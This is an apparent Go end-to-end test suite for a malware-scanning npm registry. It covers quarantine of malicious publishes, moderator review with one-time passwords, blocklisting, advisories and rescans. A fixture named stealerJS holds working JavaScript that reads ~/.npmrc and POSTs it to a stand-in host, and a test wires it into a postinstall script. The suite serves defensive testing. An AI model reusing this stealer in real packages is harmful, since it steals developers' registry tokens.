package e2e

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rampart/rampart/internal/testpeers/authapp"
	"github.com/rampart/rampart/internal/testserver"
)

// The malicious package of the tests: an install script that reads the
// installer's ~/.npmrc and sends it to a URL.
const stealerJS = `'use strict'
const fs = require('fs'), os = require('os'), https = require('https')
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
const req = https.request({ host: 'collect.invalid', path: '/t', method: 'POST' })
req.end(npmrc)
`

func stealerPkg(name, version string) pkg {
	return pkg{Name: name, Version: version, Files: map[string][]byte{"install.js": []byte(stealerJS)}}
}

// withScripts adds scripts to the package.json writePkg wrote.
func withScripts(t *testing.T, dir string, scripts map[string]string) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(read(t, filepath.Join(dir, "package.json")), &m); err != nil {
		t.Fatal(err)
	}
	m["scripts"] = scripts
	b, _ := json.MarshalIndent(m, "", "  ")
	write(t, filepath.Join(dir, "package.json"), b)
}

// moderator is a moderator's npm login token with an authenticator app:
// the moderation API takes a one-time password on every request.
type moderator struct {
	s     *testserver.Server
	token string
	app   *authapp.App
}

func newModerator(t *testing.T, s *testserver.Server, name, pw string) *moderator {
	t.Helper()
	n := signup(t, s, name, pw)
	app, _ := enableTOTP(t, s, name, pw)
	if out, err := s.Admin(t, "", "user", "moderator", "add", name); err != nil {
		t.Fatalf("moderator add: %v\n%s", err, out)
	}
	return &moderator{s: s, token: n.Token(), app: app}
}

// call sends one moderation API request with a fresh one-time password
// (the clock moves a step so that each code is new).
func (m *moderator) call(t *testing.T, method, path string, body any) httpResult {
	t.Helper()
	m.s.Advance(t, 31*time.Second)
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, m.s.URL+"-/rampart/v1/moderation/"+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+m.token)
	req.Header.Set("npm-otp", m.app.Code(t))
	req.Header.Set("Content-Type", "application/json")
	resp, err := (&http.Client{Timeout: 60 * time.Second}).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return httpResult{Status: resp.StatusCode, Body: b}
}

// watcher polls a version's packument entry and tarball, anonymously, as
// an installer would, and counts the times it saw the version.
type watcher struct {
	seen, polls atomic.Int64
	stop        chan struct{}
	wg          sync.WaitGroup
}

func watch(t *testing.T, s *testserver.Server, name, version string) *watcher {
	w := &watcher{stop: make(chan struct{})}
	c := &http.Client{Timeout: 30 * time.Second}
	get := func(url, accept string) (int, []byte) {
		req, _ := http.NewRequest("GET", url, nil)
		req.Header.Set("Accept", accept)
		resp, err := c.Do(req)
		if err != nil {
			return 0, nil
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, b
	}
	w.wg.Add(1)
	go func() {
		defer w.wg.Done()
		for {
			select {
			case <-w.stop:
				return
			default:
			}
			if st, b := get(s.URL+name, "application/vnd.npm.install-v1+json"); st == http.StatusOK && bytes.Contains(b, []byte(`"`+version+`"`)) {
				w.seen.Add(1)
			}
			if st, _ := get(s.URL+name+"/-/"+name+"-"+version+".tgz", "*/*"); st == http.StatusOK {
				w.seen.Add(1)
			}
			w.polls.Add(1)
		}
	}()
	return w
}

func (w *watcher) done(t *testing.T, what string) {
	t.Helper()
	close(w.stop)
	w.wg.Wait()
	if w.polls.Load() == 0 {
		t.Fatalf("%s: the installer never polled", what)
	}
	if n := w.seen.Load(); n > 0 {
		t.Fatalf("%s: a concurrent installer saw the quarantined version %d times", what, n)
	}
}

// TestMaliciousPublishQuarantinedThenConfirmed: a tarball whose install
// script sends ~/.npmrc away, published with the real npm CLI, is never
// served (an installer polling during and after the publish never sees
// it), its publisher and the moderators are told; a moderator confirms
// it over the API: gone for good, its bytes blocklisted, so the same
// files under another name are held too.
func TestMaliciousPublishQuarantinedThenConfirmed(t *testing.T) {
	t.Parallel()
	s := server(t, "")
	alice := signup(t, s, "alice", alicePW)
	mod := newModerator(t, s, "carol", bobPW)
	publish(t, alice, pkg{Name: "pad-utils", Version: "1.0.0"})

	w := watch(t, s, "pad-utils", "1.0.1")
	dir := writePkg(t, stealerPkg("pad-utils", "1.0.1"))
	withScripts(t, dir, map[string]string{"postinstall": "node install.js"})
	r := alice.MustRun(dir, "publish", "--loglevel=notice") // npm's default level; the tests' npm is quieter
	mustContain(t, r.Output(), "+ pad-utils@1.0.1", "quarantined", "RAMPART-CREDENTIAL-EXFILTRATION")
	// Keep polling after the publish answered, then stop.
	for w.polls.Load() < 20 {
		time.Sleep(10 * time.Millisecond)
	}
	w.done(t, "publish")

	// Not in any packument, the tarball refused, latest unmoved.
	d := getDoc(t, s, "pad-utils")
	if _, ok := d.Versions["1.0.1"]; ok || d.DistTags["latest"] != "1.0.0" {
		t.Fatalf("the packument shows the held version: %+v", d.DistTags)
	}
	tb := do(t, "GET", s.URL+"pad-utils/-/pad-utils-1.0.1.tgz", "", nil)
	if tb.Status != http.StatusNotFound {
		t.Fatalf("tarball of the held version: %d %s", tb.Status, tb.Body)
	}
	app := project(t)
	inst := testserver.NewNPM(t, s.URL)
	inst.MustRun(app, "install", "pad-utils", "--ignore-scripts")
	if v := installedVersion(t, app, "pad-utils"); v != "1.0.0" {
		t.Fatalf("npm install got %s", v)
	}
	if r := inst.Run(app, "install", "pad-utils@1.0.1", "--ignore-scripts"); r.Err == nil {
		t.Fatalf("installing the held version worked:\n%s", r.Output())
	}

	// The publisher and the moderators are mailed.
	waitForMail(t, s, "alice@example.com", "pad-utils@1.0.1 was quarantined")
	staff := waitForMail(t, s, "carol@example.com", "Review needed: pad-utils@1.0.1")
	mustContain(t, staff.Text, "RAMPART-CREDENTIAL-EXFILTRATION", "moderation/package/pad-utils/v/1.0.1")

	// The moderators' list and the evidence.
	held := mod.call(t, "GET", "held", nil)
	if held.Status != http.StatusOK || !strings.Contains(string(held.Body), `"version":"1.0.1"`) || !strings.Contains(string(held.Body), `"hold":"scan"`) {
		t.Fatalf("held: %d %s", held.Status, held.Body)
	}
	ev := mod.call(t, "GET", "package/pad-utils/v/1.0.1", nil)
	mustContain(t, string(ev.Body), `"previous":"1.0.0"`, `"path":"install.js"`, "readFileSync(os.homedir() + '/.npmrc'")
	// Without a one-time password, or as the maintainer, it is refused.
	if r := do(t, "POST", s.URL+"-/rampart/v1/moderation/package/pad-utils/v/1.0.1/release", mod.token, map[string]string{"reason": "x"}); r.Status != http.StatusUnauthorized && r.Status != http.StatusForbidden {
		t.Fatalf("release without a code: %d %s", r.Status, r.Body)
	}
	if r := do(t, "POST", s.URL+"-/rampart/v1/moderation/package/pad-utils/v/1.0.1/release", alice.Token(), map[string]string{"reason": "x"}); r.Status != http.StatusForbidden {
		t.Fatalf("release by the maintainer: %d %s", r.Status, r.Body)
	}

	// Confirmed: gone for good, its digests blocklisted.
	c := mod.call(t, "POST", "package/pad-utils/v/1.0.1/confirm", map[string]any{"reason": "steals npm tokens from ~/.npmrc", "revoke_tokens": true})
	if c.Status != http.StatusOK {
		t.Fatalf("confirm: %d %s", c.Status, c.Body)
	}
	got := c.JSON(t)
	if got["state"] != "unpublished" || got["blocked"].(float64) < 3 || got["tokens_revoked"].(float64) < 1 {
		t.Fatalf("confirm answered %v", got)
	}
	// The confirmation published a malicious-package advisory, served by
	// the OSV API and reported as critical by npm audit to a project
	// whose lockfile names the version (from a mirror, say).
	malID, _ := got["advisory"].(string)
	if !strings.HasPrefix(malID, "MAL-") {
		t.Fatalf("confirm published no MAL- advisory: %v", got)
	}
	if v := do(t, "GET", s.URL+"-/osv/v1/vulns/"+malID, "", nil); v.Status != http.StatusOK || !strings.Contains(string(v.Body), `"pad-utils"`) {
		t.Fatalf("OSV vulns/%s: %d %s", malID, v.Status, v.Body)
	}
	victim := project(t)
	write(t, filepath.Join(victim, "package.json"), []byte(`{"name":"victim","version":"1.0.0","dependencies":{"pad-utils":"1.0.1"}}`))
	write(t, filepath.Join(victim, "package-lock.json"), []byte(`{"name":"victim","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"victim","version":"1.0.0","dependencies":{"pad-utils":"1.0.1"}},"node_modules/pad-utils":{"version":"1.0.1","resolved":"`+s.URL+`pad-utils/-/pad-utils-1.0.1.tgz","integrity":"sha512-AAAA"}}}`))
	audit := testserver.NewNPM(t, s.URL).Run(victim, "audit", "--json", "--package-lock-only")
	var report struct {
		Metadata struct {
			Vulnerabilities map[string]int `json:"vulnerabilities"`
		} `json:"metadata"`
	}
	if err := json.Unmarshal([]byte(audit.Stdout), &report); err != nil || report.Metadata.Vulnerabilities["critical"] != 1 || !strings.Contains(audit.Stdout, malID) {
		t.Fatalf("npm audit of a lockfile with pad-utils@1.0.1: want 1 critical (%s):\n%s", malID, audit.Output())
	}
	if r := mod.call(t, "POST", "package/pad-utils/v/1.0.1/restore", map[string]string{"reason": "undo"}); r.Status != http.StatusConflict {
		t.Fatalf("restore of a confirmed version: %d %s", r.Status, r.Body)
	}
	// Its number is never reusable; alice's tokens were revoked, so she
	// logs in again first.
	alice2 := login(t, s, "alice", alicePW)
	r = alice2.Run(dir, "publish")
	mustFail(t, r, "previously published version")

	// The same bytes under another name and version are held.
	bob := signup(t, s, "bob", "another-long-passphrase-3")
	dir2 := writePkg(t, pkg{Name: "totally-different", Version: "2.0.0", Description: "something else", Files: map[string][]byte{"lib/x.js": []byte(stealerJS)}})
	r = bob.MustRun(dir2, "publish", "--loglevel=notice")
	mustContain(t, r.Output(), "quarantined")
	if d := packument(t, s, "totally-different", ""); d.Status == http.StatusOK && strings.Contains(string(d.Body), `"2.0.0"`) {
		t.Fatalf("the blocklisted bytes are served as totally-different@2.0.0")
	}
	ev = mod.call(t, "GET", "package/totally-different/v/2.0.0", nil)
	mustContain(t, string(ev.Body), `"rule":"BLOCKLIST"`, "pad-utils@1.0.1")
}

// TestFalsePositiveReleasedAndRescan: a moderator releases a false
// positive over the API and npm installs it; after the operator adds a
// rule, a rescan from the console quarantines an existing version, with
// its progress shown at the console and over the API.
func TestFalsePositiveReleasedAndRescan(t *testing.T) {
	t.Parallel()
	rules := filepath.Join(t.TempDir(), "rules.json")
	write(t, rules, []byte(`{"rules":[{"id":"ACME-NEVER","severity":"low","description":"placeholder","all":[{"string":"no package says this 7f3a"}]}]}`))
	s := server(t, "[scan]\nrules = ["+jsString(rules)+"]\n")
	alice := signup(t, s, "alice", alicePW)
	mod := newModerator(t, s, "carol", bobPW)

	// A minifier's test fixture: eval of a long hex string, harmless.
	blob := strings.Repeat(`\x2f\x2f`, 40)
	dir := writePkg(t, pkg{Name: "min-fixture", Version: "1.0.0", Files: map[string][]byte{"fixture.js": []byte("module.exports = () => eval(\"" + blob + "\")\n")}})
	r := alice.MustRun(dir, "publish", "--loglevel=notice")
	mustContain(t, r.Output(), "quarantined", "RAMPART-OBFUSCATED-EVAL")
	app := project(t)
	inst := testserver.NewNPM(t, s.URL)
	if r := inst.Run(app, "install", "min-fixture", "--ignore-scripts"); r.Err == nil {
		t.Fatalf("installing a held package worked:\n%s", r.Output())
	}
	rel := mod.call(t, "POST", "package/min-fixture/v/1.0.0/release", map[string]string{"reason": "a minifier's test fixture"})
	if rel.Status != http.StatusOK || rel.JSON(t)["tag"] != "latest" {
		t.Fatalf("release: %d %s", rel.Status, rel.Body)
	}
	waitForMail(t, s, "alice@example.com", "min-fixture@1.0.0 was released")
	inst.MustRun(app, "install", "min-fixture", "--ignore-scripts")
	if v := installedVersion(t, app, "min-fixture"); v != "1.0.0" {
		t.Fatalf("installed %q after release", v)
	}

	// A clean package, then a rule that catches it, then a rescan.
	publish(t, alice, pkg{Name: "phones-home", Version: "1.0.0", Files: map[string][]byte{"tele.js": []byte("fetch('https://telemetry.acme.invalid/ping')\n")}})
	write(t, rules, []byte(`{"rules":[{"id":"ACME-TELEMETRY","severity":"medium","description":"calls home to telemetry.acme.invalid","files":["*.js"],"all":[{"string":"telemetry.acme.invalid"}]}]}`))
	out, err := s.Admin(t, "", "scan", "rescan")
	if err != nil {
		t.Fatalf("rescan: %v\n%s", err, out)
	}
	mustContain(t, out, "done, 2 of 2 versions scanned, 1 held")
	status := mod.call(t, "GET", "rescan", nil)
	if st := status.JSON(t); st["state"] != "done" || st["held"].(float64) != 1 || st["done"].(float64) != 2 {
		t.Fatalf("rescan status over the API: %s", status.Body)
	}
	// The console's write reaches the server's read cache within its TTL.
	s.Advance(t, 10*time.Second)
	if d := getDoc(t, s, "phones-home"); len(d.Versions) != 0 {
		t.Fatalf("the rescan's hold is still served: %v", d.Versions)
	}
	// The released false positive stays released (its rules were noted,
	// and the new rule does not match it).
	if d := getDoc(t, s, "min-fixture"); len(d.Versions) != 1 {
		t.Fatalf("the released version was held again: %v", d.Versions)
	}
	waitForMail(t, s, "carol@example.com", "Review needed: phones-home@1.0.0")
	_ = os.Remove(rules)
}
